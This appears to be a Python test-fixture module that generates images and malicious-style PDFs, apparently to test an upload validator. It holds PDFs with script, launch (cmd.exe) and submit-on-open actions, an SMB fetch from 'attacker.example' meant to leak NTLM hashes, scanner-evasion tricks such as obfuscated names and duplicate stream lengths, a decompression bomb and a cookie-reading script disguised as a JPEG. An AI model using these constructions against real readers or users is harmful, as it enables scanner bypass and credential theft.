"""Files made in the test: photos as phones take them, PDFs good and bad."""

from __future__ import annotations

import io
import struct
import zlib

import pillow_heif
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

RED = (255, 0, 0)
GREY = (128, 128, 128)

ORIENTATION = 0x0112
GPS_IFD = 0x8825


def marked_image(size: tuple[int, int] = (400, 300), mode: str = "RGB") -> Image.Image:
    """A grey picture with a red 40 x 40 square in its top-left corner."""
    fill = (*GREY, 255) if mode == "RGBA" else GREY
    image = Image.new(mode, size, fill)
    image.paste((*RED, 255) if mode == "RGBA" else RED, (0, 0, 40, 40))
    return image


def jpeg_bytes(
    size: tuple[int, int] = (400, 300), *, orientation: int | None = None, gps: bool = False
) -> bytes:
    """A camera-like JPEG; `orientation` 6 means "rotate 90° clockwise to view"."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "PhoneModel 12"  # Model
    if orientation is not None:
        exif[ORIENTATION] = orientation
    if gps:
        gps_ifd = exif.get_ifd(GPS_IFD)
        gps_ifd[1] = "N"  # GPSLatitudeRef
        gps_ifd[2] = (21.0, 1.0, 42.0)  # GPSLatitude: Hà Nội
        gps_ifd[3] = "E"
        gps_ifd[4] = (105.0, 51.0, 12.0)
    out = io.BytesIO()
    marked_image(size).save(out, "JPEG", quality=90, exif=exif)
    return out.getvalue()


def png_bytes(size: tuple[int, int] = (400, 300), *, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    marked_image(size, mode).save(out, "PNG")
    return out.getvalue()


def webp_bytes(size: tuple[int, int] = (400, 300)) -> bytes:
    out = io.BytesIO()
    marked_image(size).save(out, "WEBP", quality=90)
    return out.getvalue()


def heic_bytes(size: tuple[int, int] = (400, 300)) -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(marked_image(size)).save(out, quality=90)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares `width` x `height` (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + _png_chunk(b"IEND", b"")
    )


def _pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_bytes(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return _pdf(writer)


def pdf_with_javascript_open_action() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hi')"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _pdf(writer)


def pdf_with_javascript_name_tree() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hi');"),
            }
        )
    )
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), action])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )
    return _pdf(writer)


def pdf_with_launch_action() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("calc.exe"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _pdf(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("payload.exe", b"MZ not really")
    return _pdf(writer)


def _name(value: str) -> NameObject:
    return NameObject(value)


def _with_open_action(action: dict[str, object]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer._root_object[_name("/OpenAction")] = writer._add_object(_dictionary(action))
    return _pdf(writer)


def _dictionary(values: dict[str, object]) -> DictionaryObject:
    def convert(value: object) -> object:
        if isinstance(value, dict):
            return _dictionary(value)
        if isinstance(value, list):
            return ArrayObject([convert(item) for item in value])  # type: ignore[misc]
        if isinstance(value, str) and value.startswith("/"):
            return _name(value)
        if isinstance(value, str):
            return TextStringObject(value)
        if isinstance(value, int):
            return NumberObject(value)
        return value

    return DictionaryObject({_name(key): convert(value) for key, value in values.items()})


def _with_page_dictionary(key: str, value: dict[str, object]) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    page[_name(key)] = _dictionary(value)
    return _pdf(writer)


def _with_link(action: dict[str, object]) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    link = _dictionary({"/Type": "/Annot", "/Subtype": "/Link", "/A": action})
    link[_name("/Rect")] = ArrayObject([FloatObject(v) for v in (50, 50, 200, 80)])
    page[_name("/Annots")] = ArrayObject([writer._add_object(link)])
    return _pdf(writer)


XFA_TEMPLATE = b"""<?xml version="1.0"?>
<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">
xfa.host.messageBox("hi");</script></event></subform></template></xdp:xdp>"""


def pdf_with_xfa_script() -> bytes:
    """An XFA form: its JavaScript sits in an XML stream, not in a PDF action."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    template = DecodedStreamObject()
    template.set_data(XFA_TEMPLATE)
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {
            _name("/Fields"): ArrayObject(),
            _name("/XFA"): ArrayObject(
                [TextStringObject("template"), writer._add_object(template)]
            ),
        }
    )
    return _pdf(writer)


def pdf_with_submit_on_open() -> bytes:
    """Opening the file posts the form to someone else's server."""
    return _with_open_action(
        {
            "/S": "/SubmitForm",
            "/F": {"/FS": "/URL", "/F": "https://collect.example/harvest"},
            "/Flags": 4,
        }
    )


def pdf_with_import_data_on_page_open() -> bytes:
    return _with_page_dictionary("/AA", {"/O": {"/S": "/ImportData", "/F": "data.fdf"}})


def pdf_with_uri_on_open() -> bytes:
    return _with_open_action({"/S": "/URI", "/URI": "https://tracker.example/opened?id=1"})


def pdf_with_uri_chained_after_open() -> bytes:
    """A harmless go-to on open whose /Next opens a URL anyway."""
    return _with_open_action(
        {"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": {"/S": "/URI", "/URI": "https://t.example/"}}
    )


def pdf_with_uri_on_page_open() -> bytes:
    return _with_page_dictionary("/AA", {"/O": {"/S": "/URI", "/URI": "https://t.example/"}})


def pdf_with_remote_go_to() -> bytes:
    """Opening the file fetches another one (an SMB path leaks the user's NTLM hash)."""
    return _with_open_action(
        {"/S": "/GoToR", "/F": "\\\\attacker.example\\share\\a.pdf", "/D": [0, "/Fit"]}
    )


def pdf_with_embedded_go_to_link() -> bytes:
    return _with_link({"/S": "/GoToE", "/T": {"/R": "/C", "/N": "payload"}, "/D": [0, "/Fit"]})


def pdf_with_link() -> bytes:
    """An ordinary clickable link (a web address printed on a paper): accepted."""
    return _with_link({"/S": "/URI", "/URI": "https://dichvucong.gov.vn/"})


def _raw_pdf(
    plain: dict[int, bytes], compressed: dict[int, bytes] | None = None, unlisted: bytes = b""
) -> bytes:
    """A PDF 1.5 file written by hand: `plain` objects in the body, `compressed` ones
    in an object stream, and a cross-reference stream that lists them all (but not
    the `unlisted` bytes written before them)."""
    compressed = compressed or {}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + unlisted)
    entries: dict[int, tuple[int, int, int]] = {}
    for number, body in sorted(plain.items()):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max([*plain, *compressed]) + 1
    if compressed:
        stream_number, size = size, size + 1
        header, bodies = b"", b""
        for index, (number, body) in enumerate(sorted(compressed.items())):
            header += b"%d %d " % (number, len(bodies))
            entries[number] = (2, stream_number, index)
            bodies += body + b"\n"
        data = zlib.compress(header + bodies)
        entries[stream_number] = (1, len(out), 0)
        out += (
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
            % (stream_number, len(compressed), len(header), len(data))
        )
        out += b"stream\n" + data + b"\nendstream\nendobj\n"
    xref_number, size = size, size + 1
    entries[xref_number] = (1, len(out), 0)
    rows = b"".join(struct.pack(">BIH", *entries.get(number, (0, 0, 0))) for number in range(size))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n" % (
        xref_number,
        size,
        len(rows),
    )
    out += (
        b"stream\n"
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[xref_number][1]
    )
    return bytes(out)


_CATALOG = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def pdf_in_object_streams() -> bytes:
    """A clean file whose page objects are compressed: accepted."""
    return _raw_pdf({1: _CATALOG[1]}, {2: _CATALOG[2], 3: _CATALOG[3]})


def pdf_with_script_in_object_stream() -> bytes:
    """A script action compressed inside an object stream, where a scan of the raw
    bytes cannot see it and the catalogue does not point at it."""
    return _raw_pdf(_CATALOG, {4: b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>"})


def pdf_with_shadowed_open_action() -> bytes:
    """The cross-reference table points the open action at a harmless object, while a
    second body of the same object (the one a repairing reader keeps) runs a script."""
    return _raw_pdf(
        {
            **_CATALOG,
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            4: b"<< /S /GoTo /D [3 0 R /Fit] >>",
        },
        unlisted=b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n",
    )


_OPEN_SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf_with_stream_lengths(
    lengths: bytes,
    hidden: bytes = _OPEN_SCRIPT,
    *,
    catalog: bytes = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
    objects: dict[int, bytes] | None = None,
) -> bytes:
    """A PDF 1.5 file whose object stream (object 5, not compressed) holds a harmless
    go-to (object 6), then the bytes "endstream", then `hidden` (object 7, by default
    a script the catalogue runs on open) up to the stream's real end. In `lengths`
    (the stream's /Length entries, as written), CUT stands for the length that lands
    on the false "endstream", FULL for the one that lands on the real one; `objects`
    are added to the body (numbers 9 and up), CUT and FULL replaced there too."""
    visible = b"<< /S /GoTo /D [3 0 R /Fit] >>"
    header = b"6 0 7 %d " % len(visible + b"\nendstream\n")
    content = header + visible + b"\nendstream\n" + hidden
    cut, full = b"%d" % (len(header) + len(visible)), b"%d" % len(content)

    def lengths_in(text: bytes) -> bytes:
        return text.replace(b"CUT", cut).replace(b"FULL", full)

    body = {**_CATALOG, 1: catalog, **{n: lengths_in(b) for n, b in (objects or {}).items()}}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries: dict[int, tuple[int, int, int]] = {6: (2, 5, 0), 7: (2, 5, 1)}
    for number, text in sorted(body.items()):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    entries[5] = (1, len(out), 0)
    out += b"5 0 obj\n<< /Type /ObjStm /N 2 /First %d %s >>\nstream\n" % (
        len(header),
        lengths_in(lengths),
    )
    out += content + b"\nendstream\nendobj\n"
    size = max([8, *body]) + 2
    entries[size - 1] = (1, len(out), 0)
    rows = b"".join(struct.pack(">BIH", *entries.get(number, (0, 0, 0))) for number in range(size))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n" % (
        size - 1,
        size,
        len(rows),
    )
    out += (
        b"stream\n"
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (entries[size - 1][1])
    )
    return bytes(out)


def pdf_with_script_after_the_first_length() -> bytes:
    """pypdf cuts the object stream with the first /Length (at the false end), a viewer
    with the second, and runs the script past it on open."""
    return pdf_with_stream_lengths(b"/Length CUT /Length FULL")


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner")
    return _pdf(writer)


HTML_AS_JPG = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
